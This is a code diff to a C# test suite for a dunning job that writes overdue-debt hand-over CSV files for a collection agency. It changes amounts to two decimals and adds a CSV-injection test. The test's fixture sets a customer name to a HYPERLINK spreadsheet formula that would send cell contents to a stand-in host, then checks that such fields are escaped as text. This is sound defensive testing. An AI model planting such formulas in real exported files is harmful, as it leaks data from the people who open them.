@@ -150,9 +150,35 @@ public sealed class DunningTests : IDisposable
         Assert.Equal(
         [
             string.Join(',', DunningJob.AgencyColumns),
-            "B-1,Customer B-1,,,INV-2026-000001,2026-12-01,2026-12-15,60,36.000000,GBP,2027-02-13",
-            "B-2,Customer B-2,,,INV-2026-000002,2026-12-01,2026-12-15,60,36.000000,GBP,2027-02-13",
+            "B-1,Customer B-1,,,INV-2026-000001,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
+            "B-2,Customer B-2,,,INV-2026-000002,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
         ], File.ReadAllLines(file));
+    }
+
+    /// <summary>
+    /// The agency opens the hand-over file in a spreadsheet: a name or address that begins with =, +, - or @ would be taken
+    /// for a formula there (CSV injection: a customer named <c>=HYPERLINK(…)</c> gets a link into the agency's sheet). Such a
+    /// text field starts with an apostrophe, which spreadsheets read as "text"; the debt is written to the cent.
+    /// </summary>
+    [Fact]
+    public void A_name_or_address_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_the_debt_to_the_cent()
+    {
+        using (var c = _world.Open())
+        {
+            c.Execute("""UPDATE accounts SET name = '=HYPERLINK("http://x.example/?"&A1)', billing_address = '+44 1 Main St', email = '@b1' WHERE id = 'B-1'""");
+        }
+
+        foreach (var day in new[] { 7, 14, 21, 30, 60 })
+        {
+            Run(day);
+        }
+
+        Assert.Equal(
+        [
+            string.Join(',', DunningJob.AgencyColumns),
+            "B-1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+44 1 Main St,'@b1,INV-2026-000001,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
+            "B-2,Customer B-2,,,INV-2026-000002,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
+        ], File.ReadAllLines(Path.Combine(_agency.Path, "agency-2027-02-13.csv")));
     }
 
     [Fact]
